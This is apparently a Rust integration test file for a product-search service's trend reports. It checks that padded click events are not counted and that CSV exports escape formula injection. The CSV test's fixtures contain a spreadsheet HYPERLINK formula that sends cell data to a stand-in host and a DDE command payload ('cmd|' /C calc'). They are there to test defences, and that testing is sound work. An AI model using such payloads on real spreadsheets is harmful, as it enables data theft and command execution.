//! Issue 22 against the real server and both stores: what may count in the trend reports and
//! what reaches their CSV.
//!
//! - `brand_padding_opens_no_hidden_cell`: a brand key (and an advertiser or admin key) gets
//!   403 on `POST /v1/events`; an app key's clicks with fresh session ids and no search, or
//!   with another session's search, are stored but count nowhere; honest shoppers who
//!   searched and then clicked are counted exactly. The traffic goes through the server (so it
//!   is stamped with today's date); the report is then built as it will be a week later,
//!   when today's week is complete.
//! - `csv_cells_cannot_be_formulas`: crafted titles, brands and a crafted search `category`
//!   logged last week; the CSV of `GET /v1/trends` has no text cell a spreadsheet reads as
//!   a formula, and the crafted category is no market row of another brand's report.

mod common;

use common::{Backend, Server, create_key_with, http};
use serde_json::{Value, json};
use shoplook_core::ModelContract;
use shoplook_core::wire::{Event, EventType, Product, Ranking};
use shoplook_domain::trends::cells::{self, Bucket, Level, Measure};
use shoplook_domain::trends::{
    Granularity, ProductFacts, Report, TrendQuery, TrendsConfig, Viewer, build_report,
    reportable_weeks,
};
use shoplook_store::trends::{Activity, ActivityKind, session_key};
use shoplook_store::{SearchRecord, Store};
use std::collections::HashMap;

const DIM: usize = 8;
const MODEL: &str = "trust-test@1";

fn axis(i: usize) -> Vec<f32> {
    let mut v = [0.05f32; DIM];
    v[i % DIM] = 1.0;
    let n = v.iter().map(|x| x * x).sum::<f32>().sqrt();
    v.iter().map(|x| x / n).collect()
}

fn product(id: &str, title: &str, brand: &str, category: &str) -> Product {
    Product {
        id: id.into(),
        title: title.into(),
        brand: brand.into(),
        price: 30.0,
        currency: "EUR".into(),
        category: category.into(),
        image: format!("https://example.com/{id}.jpg"),
        url: format!("https://example.com/p/{id}"),
        in_stock: true,
    }
}

/// A store holding `products`, with the test's model contract.
fn catalogue(backend: &Backend, products: &[Product]) -> Box<dyn Store> {
    let store = backend.open();
    store
        .ensure_contract(&ModelContract {
            id: "trust-test".into(),
            version: "1".into(),
            dim: DIM,
        })
        .unwrap();
    for (i, p) in products.iter().enumerate() {
        store.upsert(p, &format!("h{i}"), &axis(i)).unwrap();
    }
    store.flush().unwrap();
    store
}

/// The admin's weekly report as it will read a week from now (today's week complete).
fn report_next_week(store: &dyn Store) -> Report {
    let q = TrendQuery {
        granularity: Granularity::Week,
        period: 1,
        category: None,
        brand: None,
    };
    let next_week = shoplook_store::now_s() + 7 * 86_400;
    build_report(
        store,
        &q,
        &Viewer::Admin,
        &TrendsConfig::default(),
        next_week,
    )
    .unwrap()
}

/// The taps of a product that counting every logged event (what the reports did before
/// issue 22) would publish a week from now: the store's raw rows through the same cells.
fn taps_counting_every_event(store: &dyn Store, id: &str) -> Option<u64> {
    let next_week = shoplook_store::now_s() + 7 * 86_400;
    let weeks = reportable_weeks(next_week, TrendsConfig::default().retention_days);
    let last = *weeks.last().unwrap();
    let products: HashMap<String, ProductFacts> = store
        .product_facts()
        .unwrap()
        .into_iter()
        .map(|p| (p.id.clone(), p))
        .collect();
    let raw = every_logged_activity(store, weeks[0] * 86_400, (last + 7) * 86_400);
    let cells = cells::build(&raw, &products, &weeks, TrendsConfig::default().k);
    cells
        .iter()
        .find(|((m, b, n), _)| {
            *m == Measure::Taps
                && *b == Bucket::Week(last)
                && n.level == Level::Product
                && n.product == id
        })
        .and_then(|(_, f)| f.published.then_some(f.count))
}

/// The activity rows of `[from, to)` counting every logged click and purchase with a session
/// id, tied to a search or not (the store's query before issue 22): the store's search rows
/// and the events of the log, per day, product and session.
fn every_logged_activity(store: &dyn Store, from: i64, to: i64) -> Vec<Activity> {
    let mut rows: Vec<Activity> = store
        .trend_activity(from, to)
        .unwrap()
        .into_iter()
        .filter(|a| a.kind == ActivityKind::Search)
        .collect();
    let mut events: HashMap<(i64, ActivityKind, String, String), u64> = HashMap::new();
    for e in store.events_since(0, 100_000).unwrap() {
        let kind = match e.event.kind {
            EventType::Click => ActivityKind::Click,
            EventType::Purchase => ActivityKind::Purchase,
            EventType::Impression => continue,
        };
        let Some(session) = &e.event.session_id else {
            continue;
        };
        if (from..to).contains(&e.at) {
            let day = e.at.div_euclid(86_400);
            let session = session_key(&e.key_name, session);
            *events
                .entry((day, kind, e.event.product_id, session))
                .or_default() += 1;
        }
    }
    rows.extend(
        events
            .into_iter()
            .map(|((day, kind, product_id, session), count)| Activity {
                day,
                kind,
                product_id,
                category: None,
                session,
                count,
            }),
    );
    rows.sort();
    rows
}

/// The published taps of a product's row (`None`: hidden, or no row at all).
fn product_taps(r: &Report, id: &str) -> Option<u64> {
    r.rows
        .iter()
        .find(|row| row.product_id.as_deref() == Some(id))
        .and_then(|row| row.taps)
}

struct Shop {
    url: String,
}

impl Shop {
    fn post(&self, path: &str, key: &str, body: &Value) -> (u16, Value) {
        let (s, _, v) = http(
            "POST",
            &format!("{}{path}", self.url),
            Some(key),
            Some(&body.to_string()),
        );
        (s, v)
    }

    /// A search by `key` in session `session`; its query id.
    fn search(&self, key: &str, session: &str, category: &str) -> String {
        let body = json!({"embedding": axis(0), "model": MODEL, "k": 3,
                          "category": category, "session_id": session});
        let (s, r) = self.post("/v1/search", key, &body);
        assert_eq!(s, 200, "{r}");
        r["query_id"].as_str().unwrap().to_string()
    }

    /// A click by `key`; the status.
    fn click(&self, key: &str, product: &str, query_id: Option<&str>, session: &str) -> u16 {
        let mut e = json!({"type": "click", "product_id": product, "session_id": session});
        if let Some(q) = query_id {
            e["query_id"] = json!(q);
        }
        self.post("/v1/events", key, &e).0
    }
}

fn brand_padding_opens_no_hidden_cell(backend: Backend) {
    // A competitor's product with 2 real shoppers (hidden: k = 20), and one with 22.
    let store = catalogue(
        &backend,
        &[
            product("acme-bag", "Acme bag", "Acme", "bags"),
            product("nova-shoe", "Nova shoe", "Nova", "shoes"),
        ],
    );
    let app = create_key_with(&backend, "shop-app", &["--role", "app"]);
    let app2 = create_key_with(&backend, "other-app", &["--role", "app"]);
    let nova = create_key_with(&backend, "nova", &["--role", "brand", "--brand", "Nova"]);
    let adv = create_key_with(&backend, "ads", &["--role", "advertiser"]);
    let admin = create_key_with(&backend, "ops", &["--role", "admin"]);
    let server = Server::start(&backend, &["--rate-limit", "0"]);
    let shop = Shop {
        url: server.url.clone(),
    };
    let mut honest_nova = Vec::new();
    for i in 0..22 {
        let session = format!("honest-nova-{i:03}");
        let q = shop.search(&app, &session, "shoes");
        assert_eq!(shop.click(&app, "nova-shoe", Some(&q), &session), 201);
        honest_nova.push((q, session));
    }
    for i in 0..2 {
        let session = format!("honest-acme-{i:03}");
        let q = shop.search(&app, &session, "bags");
        assert_eq!(shop.click(&app, "acme-bag", Some(&q), &session), 201);
    }
    let before = product_taps(&report_next_week(store.as_ref()), "acme-bag");
    let raw_before = taps_counting_every_event(store.as_ref(), "acme-bag");

    // The brand pads its competitor's hidden cell: 19 clicks, a fresh session id each.
    let brand_statuses: Vec<u16> = (0..19)
        .map(|i| shop.click(&nova, "acme-bag", None, &format!("padding-brand-{i:03}")))
        .collect();
    let after_brand = product_taps(&report_next_week(store.as_ref()), "acme-bag");
    let raw_after_brand = taps_counting_every_event(store.as_ref(), "acme-bag");
    let other_roles = [&adv, &admin].map(|k| shop.click(k, "acme-bag", None, "padding-other-000"));

    // An app key pads with events no search of their session made: no query id, a made-up
    // one, another session's search, another key's search.
    let mut app_statuses = Vec::new();
    for (i, (honest_query, honest_session)) in honest_nova.iter().take(19).enumerate() {
        let session = format!("padding-app-{i:03}");
        let made_up = format!("made-up-{i}");
        for (key, query, session) in [
            (&app, None, &session),
            (&app, Some(made_up.as_str()), &session),
            (&app, Some(honest_query.as_str()), &session),
            (&app2, Some(honest_query.as_str()), honest_session),
        ] {
            app_statuses.push(shop.click(key, "acme-bag", query, session));
        }
    }
    let r = report_next_week(store.as_ref());
    let (after_app, nova_taps) = (product_taps(&r, "acme-bag"), product_taps(&r, "nova-shoe"));
    let raw_after_app = taps_counting_every_event(store.as_ref(), "acme-bag");
    let raw_nova = taps_counting_every_event(store.as_ref(), "nova-shoe");
    eprintln!(
        "counting every logged event (before the fix): acme-bag {raw_before:?}, then \
         {raw_after_brand:?} (after the brand's 403s), then {raw_after_app:?}; nova-shoe \
         {raw_nova:?}"
    );
    // The attack is real: counted raw, the padding would have opened the hidden cell.
    assert_eq!(raw_before, None);
    assert!(raw_after_app.is_some(), "{raw_after_app:?}");
    eprintln!(
        "acme-bag taps (2 real shoppers): {before:?} before padding, {after_brand:?} after 19 \
         brand clicks (statuses {:?}), {after_app:?} after 76 app clicks without their own \
         search (59 sessions in all); nova-shoe (22 real shoppers): {nova_taps:?}; advertiser, admin: {other_roles:?}",
        brand_statuses
            .iter()
            .collect::<std::collections::BTreeSet<_>>()
    );
    assert!(
        brand_statuses.iter().all(|&s| s == 403),
        "{brand_statuses:?}"
    );
    assert_eq!(other_roles, [403, 403]);
    let (s, body) = shop.post(
        "/v1/events",
        &nova,
        &json!({"type": "click", "product_id": "acme-bag"}),
    );
    assert_eq!(
        (s, body["error"]["code"].as_str()),
        (403, Some("forbidden")),
        "{body}"
    );
    assert!(
        app_statuses.iter().all(|&s| s == 201),
        "stored: {app_statuses:?}"
    );
    assert_eq!((before, after_brand, after_app), (None, None, None));
    assert_eq!(nova_taps, Some(22), "honest sessions count, and only they");
}

/// The cells of a CSV that start a spreadsheet formula, outside the numeric columns.
fn formula_cells(csv: &str) -> Vec<String> {
    let header: Vec<&str> = csv.lines().next().unwrap().split(',').collect();
    let numeric = |name: &str| {
        [
            "searches",
            "taps",
            "purchases",
            "conversion",
            "taps_growth",
            "searches_growth",
        ]
        .contains(&name)
    };
    let mut out = Vec::new();
    for rec in csv_records(csv) {
        for (i, cell) in rec.iter().enumerate() {
            if !numeric(header[i]) && cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                out.push(format!("{}={cell}", header[i]));
            }
        }
    }
    out
}

/// The records of a CSV text (RFC 4180 quoting), header excluded.
fn csv_records(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let (mut rec, mut cell, mut quoted, mut chars) =
        (Vec::new(), String::new(), false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => rec.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                rec.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut rec));
            }
            _ => cell.push(c),
        }
    }
    records.remove(0);
    records
}

fn csv_cells_cannot_be_formulas(backend: Backend) {
    const TITLE: &str = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Open\")";
    const CATEGORY: &str = "=cmd|' /C calc'!A0";
    let store = catalogue(
        &backend,
        &[
            product("evil-1", TITLE, "@SUM(A1:A9)", "shoes"),
            product("nova-1", "-Nova +plus", "Nova", "shoes"),
        ],
    );
    // Last week: 25 sessions of an app search in the crafted category, 25 in "shoes" that
    // tap both products.
    let day = shoplook_store::now_s().div_euclid(86_400) - 7;
    let mut searches = Vec::new();
    let mut events = Vec::new();
    for i in 0..25 {
        let at = day * 86_400 + 3_600 + i;
        for (tag, category) in [("x", CATEGORY), ("s", "SHOES")] {
            let session = format!("csv-{tag}-{i:03}");
            let query_id = format!("q-{tag}-{i}");
            searches.push((
                SearchRecord {
                    query_id: query_id.clone(),
                    key_name: "shop-app".into(),
                    session_id: Some(session.clone()),
                    category: Some(category.into()),
                    ranking: Ranking::Visual,
                    embedding: axis(0),
                    shown: vec!["evil-1".into(), "nova-1".into()],
                },
                at,
            ));
            if tag == "s" {
                for p in ["evil-1", "nova-1"] {
                    let e = Event {
                        kind: EventType::Click,
                        product_id: p.into(),
                        query_id: Some(query_id.clone()),
                        position: Some(1),
                        session_id: Some(session.clone()),
                    };
                    events.push((e, "shop-app".to_string(), at + 30));
                }
            }
        }
    }
    store.import_logs(&searches, &events).unwrap();
    store.flush().unwrap();
    let admin = create_key_with(&backend, "ops", &["--role", "admin"]);
    let nova = create_key_with(&backend, "nova", &["--role", "brand", "--brand", "Nova"]);
    let app = create_key_with(&backend, "shop-app", &["--role", "app"]);
    let server = Server::start(&backend, &[]);
    // The search API documents `category` as a free filter: a crafted one still searches
    // (and matches nothing).
    let body = json!({"embedding": axis(0), "model": MODEL, "category": CATEGORY});
    let (s, _, r) = http(
        "POST",
        &format!("{}/v1/search", server.url),
        Some(&app),
        Some(&body.to_string()),
    );
    assert_eq!(
        (s, r["results"].as_array().map(Vec::len)),
        (200, Some(0)),
        "{r}"
    );
    let csv = |key: &str| {
        let (s, _, body) = http(
            "GET",
            &format!("{}/v1/trends?format=csv&period=2", server.url),
            Some(key),
            None,
        );
        assert_eq!(s, 200, "{body}");
        body.as_str().unwrap().to_string()
    };
    let (all, brand) = (csv(&admin), csv(&nova));
    eprintln!("admin CSV:\n{all}\nNova's CSV:\n{brand}");
    let formulas: Vec<String> = formula_cells(&all)
        .into_iter()
        .chain(formula_cells(&brand))
        .collect();
    assert!(
        formulas.is_empty(),
        "cells a spreadsheet runs: {formulas:?}"
    );
    assert!(
        !brand.contains("cmd|"),
        "the crafted category is a market row: {brand}"
    );
    assert!(
        all.contains(&format!("\"'{}\"", TITLE.replace('"', "\"\""))),
        "the title is kept, as text: {all}"
    );
    assert!(
        all.contains(",shoes,"),
        "SHOES counts as the catalogue's shoes: {all}"
    );
}

both_stores!(
    brand_padding_opens_no_hidden_cell,
    csv_cells_cannot_be_formulas
);
